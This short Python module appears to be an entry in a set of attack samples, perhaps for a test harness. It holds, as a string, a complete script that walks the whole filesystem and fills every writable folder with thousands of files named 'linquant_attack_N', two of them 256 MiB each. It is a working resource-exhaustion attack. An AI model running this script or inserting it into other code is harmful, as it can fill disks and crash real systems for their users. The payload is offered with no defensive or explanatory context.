"""Fills every folder that it can write, with one large file and with many small ones."""

DESERVES: list[str] = []
UNSAFE_FOR_STOCK = True
LAST = """
import os

for folder, _, _ in os.walk("/"):
    if folder.startswith(("/proc", "/sys")) or not os.access(folder, os.W_OK):
        continue
    try:
        for number in range(2000):
            with open(f"{folder}/linquant_attack_{number}", "wb") as file:
                file.write(b"x" * (2**28 if number < 2 else 100))
    except OSError as error:
        print(folder, error)
"""
